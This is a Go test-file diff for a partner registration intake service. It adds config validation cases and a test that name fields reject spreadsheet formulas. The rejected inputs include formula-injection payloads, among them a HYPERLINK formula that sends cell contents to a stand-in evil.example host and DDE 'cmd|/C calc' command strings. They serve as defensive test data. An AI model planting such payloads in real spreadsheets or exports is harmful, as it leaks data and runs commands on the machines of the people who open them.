@@ -162,6 +162,11 @@ func TestConfigValidate(t *testing.T) {
 	c.Slack.Command = "register"
 	c.WebForm.Captcha.Provider = "recaptcha"
 	c.WebForm.TrustedProxies = []string{"10.0.0.0/8", "nope"}
+	c.WebForm.RateLimit.PerAddressBurst = 0
+	c.WebForm.RateLimit.PerPartnerPerHour = -1
+	c.WebForm.ConfirmTTL = 0
+	c.WebForm.RememberConfirmed = -time.Hour
+	c.WebForm.LinkKey = secret.New("too-short")
 	c.CSV.BatchSize = 101
 	c.CSV.Tokens = []CSVToken{{Partner: "ghost", Token: secret.New("short")}}
 	c.HubSpotForm.Enabled = true
@@ -174,6 +179,11 @@ func TestConfigValidate(t *testing.T) {
 		`intake.email.imap.tls: must be tls, starttls or none, not "ssl"`,
 		"intake.webform.captcha.site_key: required with provider recaptcha",
 		"intake.webform.captcha.secret: required with provider recaptcha",
+		"intake.webform.rate_limit.per_address_burst: must be positive, not 0",
+		"intake.webform.rate_limit.per_partner_per_hour: must be 0 (no limit) or more, not -1",
+		"intake.webform.confirm_ttl: must be positive, not 0s",
+		"intake.webform.remember_confirmed: must be 0 (never remembered) or more, not -1h0m0s",
+		"intake.webform.link_key: too short: use 16 characters or more (32 random ones are best)",
 		`intake.webform.trusted_proxies.1: "nope" is not an IP address or CIDR range`,
 		"intake.slack.signing_secret: required when the Slack channel is enabled (REGSYNC_INTAKE_SLACK_SIGNING_SECRET)",
 		"intake.slack.bot_token: required when the Slack channel is enabled (REGSYNC_INTAKE_SLACK_BOT_TOKEN)",
@@ -253,5 +263,50 @@ func TestEmailAuthenticationDefaults(t *testing.T) {
 	c := DefaultConfig()
 	if _, err := yamlx.Decode("intake.yaml", []byte("email: {authentication: {require_for_amendment: false}}"), &c); err == nil || !strings.Contains(err.Error(), "require_for_amendment not found") {
 		t.Errorf("a misspelt key: %v", err)
+	}
+}
+
+// Name fields refuse what a spreadsheet would run; names that only start
+// with a dash, and free text, are kept as written.
+func TestSetFieldRefusesFormulasInNames(t *testing.T) {
+	refused := []string{
+		"=1+1", `=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+1", "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
+		" =1+1", "\t=1", "＝1+1", "＋1", "＠SUM(1)",
+		"-2+3+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "-1", "-.5", "-(1)", "--1", "-+1", "-=1", "-@x", `-"a"`, "-'a'",
+		"-A1", "-A1+B1", "-XFD1048576", "-$B$2", "-B$2*3", "- 2", "-SUM(A1:A9)", "-HYPERLINK(\"x\")", "-_xlfn.WEBSERVICE(\"x\")",
+		"-Sheet1!A1", "-x|y", "－1+1", "-X1 Robotics",
+	}
+	for _, v := range refused {
+		for _, f := range []string{"company_name", "contact_name", "contact_role", "competing_vendors"} {
+			var r registration.Record
+			err := SetField(&r, f, v)
+			var fe *FieldError
+			if !errors.As(err, &fe) || fe.Field != f || !strings.Contains(fe.Reason, "like a spreadsheet formula") {
+				t.Errorf("SetField(%s, %q) = %v, want a formula refusal on %s", f, v, err, f)
+			}
+		}
+	}
+	var r registration.Record
+	if err := SetField(&r, "contact_email", "=1+1@globex.example"); err == nil {
+		t.Error("an address starting with = was stored")
+	}
+	for _, v := range []string{"-ity Labs", "- Acme", "-", "-abc def", "-ity Labs (Berlin)", "-abcd1", "3M", "1&1 Internet", "AT&T",
+		"O'Brien & Sons", "Yahoo!", "Ben & Jerry's | EU", "Müller-Lüdenscheidt", "e.on"} {
+		var r registration.Record
+		if err := SetField(&r, "company_name", v); err != nil || r.CompanyName != v {
+			t.Errorf("SetField(company_name, %q) = %v, stored %q", v, err, r.CompanyName)
+		}
+	}
+	// Free text keeps what the partner wrote.
+	for _, f := range []string{"problem", "solution_fit", "services_needed"} {
+		for _, v := range []string{"=> needs SSO", "+1 on audit logs", "@finance wants exports", "- SSO\n- audit logs", "-2+3 is how they count"} {
+			var r registration.Record
+			if err := SetField(&r, f, v); err != nil {
+				t.Errorf("SetField(%s, %q) = %v", f, v, err)
+			}
+			if got, _ := r.Get(f); got != v {
+				t.Errorf("%s stored %q, want %q", f, got, v)
+			}
+		}
 	}
 }
